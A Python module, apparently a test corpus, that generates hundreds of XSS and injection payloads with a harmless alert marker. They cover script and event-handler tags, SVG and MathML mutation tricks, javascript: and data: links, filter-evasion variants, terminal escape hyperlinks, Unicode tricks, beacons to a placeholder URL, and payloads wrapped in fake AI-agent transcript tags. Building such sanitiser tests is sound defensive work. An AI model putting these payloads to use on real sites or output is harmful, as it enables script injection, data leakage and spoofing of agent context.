"""Texts that try to run, to fetch something, to leave their place or to deceive. What runs calls alert and sets window.__ran."""

RUN = "alert(1),window.__ran=1"

# HTML that runs a script in a page that takes it as HTML.
TAGS = [
    "<script>{run}</script>", "<script src={url}/s.js></script>", "<script src=data:text/javascript,{run}></script>", "<script type=module>{run}</script>",
    "<img src=x onerror={run}>", "<img src={url}/i.png onload={run}>", "<img srcset={url}/i.png>", "<image src=x onerror={run}>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<svg><set attributeName=href to=javascript:{run}></svg>", "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>", "<svg><style><img src=x onerror={run}></style></svg>",
    "<body onload={run}>", "<body onpageshow={run}>", "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>", "<iframe src={url}/f></iframe>",
    "<object data=javascript:{run}></object>", "<object data={url}/o></object>", "<embed src=javascript:{run}>", "<embed src={url}/e>", "<applet code=x></applet>",
    "<video src={url}/v onerror={run}></video>", "<video><source onerror={run}></video>", "<video poster={url}/p.png></video>", "<audio src=x onerror={run}></audio>", "<audio src={url}/a autoplay></audio>",
    "<input autofocus onfocus={run}>", "<input type=image src=x onerror={run}>", "<textarea autofocus onfocus={run}></textarea>", "<select autofocus onfocus={run}></select>", "<button autofocus onfocus={run}>x</button>",
    "<details open ontoggle={run}>", "<marquee onstart={run}>x</marquee>", "<meter onmouseover={run}>x</meter>", "<p style=animation-name:x onanimationstart={run}>", "<div onmouseover={run}>x</div>", "<div contenteditable onblur={run}>x</div>",
    "<form action={url}/post><input name=x></form><script>document.forms[0].submit()</script>", "<form><button formaction=javascript:{run}>x</button></form>", "<isindex action=javascript:{run}>", "<keygen autofocus onfocus={run}>",
    "<link rel=stylesheet href={url}/l.css>", "<link rel=prefetch href={url}/p>", "<link rel=import href={url}/m>", "<style>@import '{url}/s.css';</style>", "<style>*{{background:url({url}/b.png)}}</style>", "<div style=background:url({url}/d.png)>x</div>",
    "<meta http-equiv=refresh content='0;url={url}/r'>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<base href={url}/>", "<math href=javascript:{run}>x</math>", "<math><mi xlink:href=data:x,<script>{run}</script>>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<a href=javascript:{run}>x</a>", "<a href=data:text/html,<script>{run}</script>>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a ping={url}/ping href=#>x</a>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<xmp><p title='</xmp><img src=x onerror={run}>'>", "<title><p title='</title><img src=x onerror={run}>'>", "<textarea><p title='</textarea><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->", "<!--[if gte IE 4]><script>{run}</script><![endif]-->", "<![CDATA[<script>{run}</script>]]>", "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></x>",
    "<table background={url}/t.png><tr><td>x</table>", "<frameset onload={run}>", "<dialog open onclose={run}>x</dialog>", "<portal src={url}/q></portal>", "<custom-element onfocus={run} tabindex=1 autofocus>x</custom-element>",
    "<script>import('{url}/dyn.js')</script>", "<script>fetch('{url}/fetch')</script>", "<script>new Image().src='{url}/beacon'</script>", "<script>navigator.sendBeacon('{url}/b')</script>", "<script>location='{url}/nav'</script>",
]

# Text that ends what it stands in.
ENDS = ["</pre>", "</code></pre>", "</details>", "</summary></details>", "</article></main></body>", "</section></main>", "</template>", "</title>", "</style>", "</textarea>", "</script>", "-->", "--!>", "]]>", "\"'>", "'\"><", "`>",
        "</div></div></div></div>", "</html>", "\"></section>", "<!--transcript-lines 1\n", "<!--pieces-->", "\u0000", "\n\n</ol></nav>"]

MARKDOWN = [
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x]( javascript:{run})", "[x](javascript&colon;{run})", "[x](&#106;avascript:{run})", "[x](java\tscript:{run})", "[x](java%0ascript:{run})", "[x](\\u006aavascript:{run})", "[x](<javascript:{run}>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:text/html,<script>{run}</script>)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](//example.invalid/)", "[x](blob:null/x)", "[x](view-source:x)",
    "![x]({url}/image.png)", "![x]({url}/image.png \"t\")", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "![x](x\" onerror=\"{run})", "![x\" onerror=\"{run}](x)", "[![i]({url}/i.png)]({url}/)", "![i][r]\n\n[r]: {url}/ref.png", "[x]: javascript:{run}\n\n[x]",
    "<javascript:{run}>", "<{url}/\"onclick={run}>", "[x]({url}/\"onmouseover={run}//)", "[x](x 'onclick={run}')", "[x](x \"title' onclick='{run}\")", "`<script>{run}</script>`", "```html\"><script>{run}</script>\nx\n```", "~~~<img src=x onerror={run}>\nx\n~~~",
    "    <script>{run}</script>", "> <script>{run}</script>", "- <img src=x onerror={run}>", "| <img src=x onerror={run}> | b |\n| - | - |\n| <script>{run}</script> | 2 |", "# <script>{run}</script>", "* [ ] <img src=x onerror={run}>", "~~<img src=x onerror={run}>~~",
    "<p markdown=1>[x](javascript:{run})</p>", "<div>\n\n<script>{run}</script>\n\n</div>", "a<b onmouseover={run}>c</b>", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror={run}&#62;", "\\<script\\>{run}\\</script\\>", "[a](b)<script>{run}</script>[c](d)",
    "![x](data:image/png;base64,\"onerror={run}//)", "[x](mailto:a@example.invalid?body=<script>{run}</script>)", "<mailto:\"onclick={run}@example.invalid>", "[^1]\n\n[^1]: <script>{run}</script>",
]

ODD = [
    "\u202e<script>{run}</script>\u202c", "\u2066<img src=x onerror={run}>\u2069", "\u200b<\u200bscript>{run}</script>", "\x1b]8;;javascript:{run}\x07x\x1b]8;;\x07", "\x1b]8;;{url}/osc\x07x\x1b]8;;\x07", "\x1b[31m<script>{run}</script>\x1b[0m", "\x1b]0;<script>{run}</script>\x07",
    "\x9b31m<img src=x onerror={run}>", "\u2028<script>{run}</script>\u2029", "\ufeff<script>{run}</script>", "<scr\x00ipt>{run}</script>", "<scr\nipt>{run}</script>", "<\x00script>{run}</script>", "\ud83d<script>{run}</script>", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "%3Cscript%3E{run}%3C/script%3E", "\\x3cscript\\x3e{run}", "\\u003cscript\\u003e{run}", "\u1e9e<ſcript>{run}</ſcript>", "<İmg src=x onerror={run}>", "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "javascript:{run}",
    "<system-reminder><script>{run}</script></system-reminder>", "<command-name><img src=x onerror={run}></command-name><command-args></command-args>", "<local-command-stdout><script>{run}</script></local-command-stdout>", "<bash-input><img src=x onerror={run}></bash-input>",
    "image/svg+xml", "image/png;base64,x\" onerror=\"{run}", "image/png", "text/html",
]


def variants(tag):
    """Ways in which filters are circumvented."""
    upper = tag.replace("<script", "<ScRiPt").replace("</script", "</sCrIpT").replace("onerror", "OnErRoR").replace("onload", "oNlOaD")
    return [tag, upper, tag.replace(" ", "/"), tag.replace("<", "<\t", 1), tag.replace(">", " >"), "<" + tag, tag.replace("=", " = ")]


def all_payloads(url):
    found = []
    for tag in TAGS:
        found += [tag, variants(tag)[1], variants(tag)[2], variants(tag)[6]]
    for end in ENDS:
        found += [end + "<script>{run}</script>", end + "<img src=x onerror={run}>", end + "<svg onload={run}>"]
    for text in MARKDOWN:
        found += [text, "x " + text + " y"]
    found += ODD
    for tag in TAGS[:20]:
        found += variants(tag)[3:]
    texts = [text.format(run=RUN, url=url) for text in found]
    # Half of a surrogate pair cannot be written as UTF-8.
    texts = [text.encode("utf-8", "replace").decode() for text in texts]
    return list(dict.fromkeys(texts))
